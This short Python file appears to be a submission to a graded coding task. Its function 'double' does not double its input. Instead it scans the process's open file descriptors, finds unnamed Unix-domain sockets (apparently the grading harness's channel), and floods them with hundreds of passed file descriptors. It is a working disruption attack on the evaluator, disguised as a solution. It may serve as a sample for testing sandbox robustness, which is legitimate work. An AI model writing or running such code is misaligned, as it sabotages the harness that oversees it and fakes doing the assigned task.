"""Sends open files along with a byte, a few hundred of them."""

SCORE = 0

# %% double
import os
import socket


def double(array):
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            with socket.socket(fileno=os.dup(fd)) as copy:
                if copy.family == socket.AF_UNIX and not copy.getsockname():
                    copy.setblocking(False)
                    for _ in range(4):
                        socket.send_fds(copy, [b"\x00"], [0] * 100)
        except OSError:
            pass
    return array
